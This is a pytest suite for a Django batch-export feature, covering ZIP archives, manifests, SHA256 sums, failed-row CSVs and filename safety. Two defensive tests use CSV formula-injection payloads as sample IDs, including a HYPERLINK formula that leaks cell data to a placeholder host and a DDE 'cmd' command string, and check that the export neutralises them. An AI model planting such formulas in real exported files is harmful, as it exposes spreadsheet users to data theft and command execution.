"""What a batch gives to take away: the ZIP with its lists, results, the manifest."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from typing import Any

import pytest
from django.conf import settings
from django.contrib.auth.models import Permission, User
from django.test import Client

from batches import cells, storage
from batches.models import AuditEntry, Batch, BatchItem, Job, JobState
from tests.factories import NOW, make_accepted_job, make_job, make_saved_job
from tests.web.conftest import CASES
from tests.web.starting import start
from tests.web.stored import store_pdf


def archive_of(batch: Batch, client: Client) -> tuple[Any, zipfile.ZipFile]:
    answer = client.get(f"/batches/{batch.public_id}/archive/")
    assert answer.status_code == 200
    content = b"".join(answer.streaming_content)
    assert len(content) == int(answer["Content-Length"])
    archive = zipfile.ZipFile(io.BytesIO(content))
    assert archive.testzip() is None
    return answer, archive


def saved(batch: Batch, business_id: str, content: bytes) -> Job:
    job = make_saved_job(batch=batch, business_id=business_id)
    store_pdf(job, content)
    return job


def table(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    text = archive.read(name).decode("utf-8")
    assert text.startswith("\ufeff")
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_a_complete_batch_accounts_for_every_row_and_byte(batch: Batch, operator: Client) -> None:
    saved(batch, "INV-1", b"%PDF-1.7 one")
    saved(batch, "INV-2", b"%PDF-1.7 two")
    answer, archive = archive_of(batch, operator)
    assert answer["Content-Type"] == "application/zip"
    assert "PARTIAL" not in answer["Content-Disposition"]
    assert archive.namelist() == [
        "documents/INV-1_v1.pdf",
        "documents/INV-2_v1.pdf",
        "manifest.json",
        "manifest.csv",
        "failed.csv",
        "SHA256SUMS",
    ]
    assert {info.compress_type for info in archive.infolist()} == {zipfile.ZIP_STORED}
    for line in archive.read("SHA256SUMS").decode().splitlines():
        digest, _, path = line.partition("  ")
        assert hashlib.sha256(archive.read(path)).hexdigest() == digest
    top = json.loads(archive.read("manifest.json"))
    assert (top["format"], top["batch_id"], top["complete"]) == ("pdf-batch-manifest/1", batch.public_id, True)
    assert top["counts"]["saved"] == 2
    for file in top["files"]:
        assert hashlib.sha256(archive.read(file["path"])).hexdigest() == file["sha256"]
    rows = table(archive, "manifest.csv")
    assert [(row["row"], row["id"], row["status"], row["filename"]) for row in rows] == [
        ("0", "INV-1", "saved", "INV-1_v1.pdf"),
        ("1", "INV-2", "saved", "INV-2_v1.pdf"),
    ]
    assert table(archive, "failed.csv") == []
    assert AuditEntry.objects.get().facts == {"documents": 2, "rows": 2}


def test_only_who_may_reveal_a_provider_job_gets_its_id_whole(batch: Batch, operator: Client, viewer: Client) -> None:
    """Whoever has the id can fetch the file at the provider."""
    given = Permission.objects.filter(codename__in=("export", "view_content"))
    User.objects.get(username="nadia").user_permissions.set(given)
    whole = saved(batch, "INV-1", b"%PDF-1.7 one").submissions.get().provider_job_id
    assert whole
    for client, may in ((operator, True), (viewer, False)):
        lists = [table(archive_of(batch, client)[1], "manifest.csv")[0]["provider_job_id"]]
        for kind in ("csv", "jsonl"):
            answer: Any = client.get(f"/batches/{batch.public_id}/results.{kind}")
            assert answer.status_code == 200
            lists.append(b"".join(answer.streaming_content).decode())
        assert [whole in each for each in lists] == [may] * 3


def test_a_partial_batch_says_so_and_gives_the_failed_rows_back(batch: Batch, operator: Client) -> None:
    saved(batch, "INV-1", b"%PDF-1.7 one")
    make_job(batch=batch, state=JobState.FAILED, business_id="INV-2", failure_words="Too wide.", failure_code="E422")
    make_accepted_job(batch=batch, business_id="INV-3")
    batch.items.filter(position=1).update(original_row={"id": "INV-2", "html": "two.html", "meta": {"a": 1}, "_row": 9})
    answer, archive = archive_of(batch, operator)
    assert "_PARTIAL.zip" in answer["Content-Disposition"]
    assert json.loads(archive.read("manifest.json"))["complete"] is False
    rows = table(archive, "manifest.csv")
    assert [row["status"] for row in rows] == ["saved", "failed", "accepted"]
    assert rows[1]["reason"] == "Too wide. (E422)"
    assert table(archive, "failed.csv") == [
        {
            "id": "INV-2",
            "html": "two.html",
            "meta": '{"a": 1}',
            "_row": "1",
            "_code": "render_failed",
            "_reason": "Too wide. (E422)",
            "_attempts": "0",
            "_last_state": "failed",
        }
    ]


def test_nothing_saved_gives_a_message_and_no_archive(batch: Batch, operator: Client) -> None:
    make_accepted_job(batch=batch)
    page = operator.get(f"/batches/{batch.public_id}/archive/", follow=True)
    assert "there is nothing to download" in page.text
    assert "Download ZIP" not in page.text


@pytest.mark.parametrize("damage", ["missing", "empty", "cut"])
def test_an_object_that_is_not_there_in_full_is_reported_and_not_packed(
    damage: str, batch: Batch, operator: Client
) -> None:
    saved(batch, "INV-1", b"%PDF-1.7 one")
    bad = saved(batch, "INV-2", b"%PDF-1.7 two")
    store = storage.open_store(settings.STORAGE_URL)
    key = bad.version.artifact.storage_key
    if damage == "missing":
        store.delete(key)
    else:
        store.put(key, io.BytesIO(b"" if damage == "empty" else b"%PDF-1.7"))
    answer, archive = archive_of(batch, operator)
    assert "_PARTIAL.zip" in answer["Content-Disposition"]
    assert "documents/INV-2_v1.pdf" not in archive.namelist()
    assert table(archive, "failed.csv")[0]["_reason"] == "The stored file is missing from storage."
    assert table(archive, "manifest.csv")[1]["flags"] == "file_missing"


def test_a_changed_object_breaks_the_download_off(batch: Batch, operator: Client) -> None:
    job = saved(batch, "INV-1", b"%PDF-1.7 one")
    storage.open_store(settings.STORAGE_URL).put(job.version.artifact.storage_key, io.BytesIO(b"%PDF-1.7 0ne"))
    answer = operator.get(f"/batches/{batch.public_id}/archive/")
    with pytest.raises(Exception, match="has changed since it was verified"):
        b"".join(answer.streaming_content)


@pytest.mark.parametrize("case", ["014-ids-with-slashes.json", "089-url-hostile-ids.json", "121-download-names.json"])
def test_every_id_has_a_name_of_its_own_inside_the_archive(case: str, batch: Batch, operator: Client) -> None:
    ids = [row["id"].strip() for row in json.loads((CASES / case).read_text(encoding="utf-8"))]
    ids = [business_id for business_id in dict.fromkeys(ids) if business_id not in (".", "..")]
    for number, business_id in enumerate(ids):
        saved(batch, business_id, b"%%PDF-1.7 %d" % number)
    _, archive = archive_of(batch, operator)
    rows = table(archive, "manifest.csv")
    assert len({row["filename"].casefold() for row in rows}) == len(ids)
    for number, row in enumerate(rows):
        assert archive.read(f"documents/{row['filename']}") == b"%%PDF-1.7 %d" % number
        assert row["filename"].endswith(".pdf")
        assert not row["filename"].endswith(".pdf.pdf")
        assert "/" not in row["filename"]
        assert len(row["filename"].encode()) <= 130


def test_formulas_in_ids_do_not_run_from_a_csv(batch: Batch, operator: Client) -> None:
    ids = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', "@SUM(1+1)", "+44-555-0102", "-5", " =1+1"]
    for business_id in ids:
        make_job(batch=batch, state=JobState.FAILED, business_id=business_id)
    answer = operator.get(f"/batches/{batch.public_id}/results.csv")
    text = b"".join(answer.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [row["id"] for row in rows] == [f"'{business_id}" for business_id in ids]
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    lines = b"".join(operator.get(f"/batches/{batch.public_id}/results.jsonl").streaming_content).decode().splitlines()
    assert [json.loads(line)["id"] for line in lines] == ids


def test_results_come_in_two_formats_only(batch: Batch, operator: Client) -> None:
    assert operator.get(f"/batches/{batch.public_id}/results.exe").status_code == 404


def test_the_manifest_comes_back_byte_for_byte(batch: Batch, operator: Client) -> None:
    storage.open_store(settings.STORAGE_URL).put(batch.manifest_key, io.BytesIO(b"[]"))
    answer = operator.get(f"/batches/{batch.public_id}/manifest/")
    assert b"".join(answer.streaming_content) == b"[]"
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"] == 'attachment; filename="manifest.json"'
    assert AuditEntry.objects.get().action == "download_manifest"


def test_a_store_that_is_away_is_told(batch: Batch, operator: Client, settings: Any, tmp_path: Any) -> None:
    saved(batch, "INV-1", b"%PDF-1.7 one")
    in_the_way = tmp_path / "file"
    in_the_way.write_bytes(b"")
    settings.STORAGE_URL = f"file://{in_the_way}/store"
    page = operator.get(f"/batches/{batch.public_id}/archive/", follow=True)
    assert "The files cannot be read at the moment." in page.text


# --- failed.csv -----------------------------------------------------------------------------------------------------


def failed_list(batch: Batch, client: Client) -> list[list[str]]:
    answer = client.get(f"/batches/{batch.public_id}/failed.csv")
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith("attachment;")
    text = b"".join(answer.streaming_content).decode()
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def given(job: Job, row: dict[str, Any]) -> None:
    BatchItem.objects.filter(version=job.version).update(original_row=row)


def test_the_failed_list_has_the_columns_as_given_and_ours_after_them(batch: Batch, operator: Client) -> None:
    Batch.objects.update(report={"columns": ["zebra", "id", "_code", "amount"], "columns_are_all": True})
    saved(batch, "INV-1", b"%PDF-1.7 one")
    job = make_job(batch=batch, state=JobState.FAILED, failure_code="E7", failure_words="Too wide.")
    given(job, {"zebra": "ž", "id": "INV-2", "_code": "old", "amount": 12.5})
    head, *rows = failed_list(batch, operator)
    assert head == ["zebra", "id", "amount", "_row", "_code", "_reason", "_attempts", "_last_state"]
    assert rows == [["ž", "INV-2", "12.5", "1", "render_failed", "Too wide. (E7)", "0", "failed"]]
    entry = AuditEntry.objects.get(action="download_failed_list")
    assert (entry.actor_words, entry.subject) == ("m.okoye", f"batch {batch.public_id}")


def test_the_failed_list_holds_what_needs_a_person_and_nothing_else(batch: Batch, operator: Client) -> None:
    kept = [
        make_job(batch=batch, state=state).version.document.business_id
        for state in (JobState.FAILED, JobState.UNKNOWN, JobState.DEADLINE_EXCEEDED, JobState.EXPIRED)
    ]
    dismissed, cancelled = make_job(batch=batch, state=JobState.FAILED), make_job(batch=batch, state=JobState.FAILED)
    BatchItem.objects.filter(version=dismissed.version).update(dismissed_at=NOW, dismissed_note="paid by hand")
    BatchItem.objects.filter(version=cancelled.version).update(cancelled_at=NOW)
    make_job(batch=batch)
    make_accepted_job(batch=batch)
    for item in BatchItem.objects.select_related("document"):
        BatchItem.objects.filter(pk=item.pk).update(original_row={"id": item.document.business_id})
    head, *rows = failed_list(batch, operator)
    assert [row[head.index("id")] for row in rows] == kept
    assert [row[head.index("_last_state")] for row in rows] == ["failed", "unknown", "deadline_exceeded", "expired"]


def test_rows_of_json_may_each_have_their_own_columns(batch: Batch, operator: Client) -> None:
    """As batches have them that were started before their columns were kept."""
    given(make_job(batch=batch, state=JobState.FAILED), {"id": "A"})
    given(make_job(batch=batch, state=JobState.FAILED), {"id": "B", "more": {"x": [1, None]}, "yes": True})
    head, *rows = failed_list(batch, operator)
    assert head[:3] == ["id", "more", "yes"]
    assert [row[:3] for row in rows] == [["A", "", ""], ["B", '{"x": [1, null]}', "true"]]


def test_nothing_in_the_failed_list_runs_as_a_formula(batch: Batch, operator: Client) -> None:
    """Case 124. What is guarded is the text itself with one apostrophe before it, and so no two texts are one cell."""
    ids = [
        '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
        "@SUM(1+1)",
        "+44-555-0102",
        "-5",
        "\t=1+1",
        "'=quoted",
        "''=quoted twice",
        "=quoted",
        "'tis plain",
    ]
    for business_id in ids:
        job = make_job(batch=batch, state=JobState.FAILED, failure_words="=cmd|' /C calc'!A0")
        given(job, {"id": business_id, "n": -5, "=head": "x"})
    head, *rows = failed_list(batch, operator)
    written = [cell for row in (head, *rows) for cell in row]
    assert not [cell for cell in written if cell.lstrip()[:1] in ("=", "+", "@") or cell[:1] in ("\t", "\r", "\n")]
    assert [cells.unguarded(row[0]) for row in rows] == ids
    assert len({row[0] for row in rows}) == len(ids)
    assert rows[-1][0] == "'tis plain"
    assert {row[head.index("n")] for row in rows} == {"-5"}


def test_a_batch_without_failures_has_a_list_of_its_columns_alone(batch: Batch, operator: Client) -> None:
    Batch.objects.update(report={"columns": ["id"], "columns_are_all": True})
    saved(batch, "INV-1", b"%PDF-1.7 one")
    assert failed_list(batch, operator) == [["id", "_row", "_code", "_reason", "_attempts", "_last_state"]]


def test_a_batch_keeps_the_order_of_its_columns(upload: Any, operator: Client) -> None:
    answer = upload(
        [
            {"zeta": "1", "id": "A-1", "html_content": "<p>1</p>", "alpha": "2"},
            {"id": "A-2", "html_content": "<p>2</p>", "b": 1},
        ]
    )
    start(operator, answer)
    kept = [name for name in Batch.objects.get().report["columns"] if name != "html_content"]
    assert kept == ["zeta", "id", "alpha", "b"]
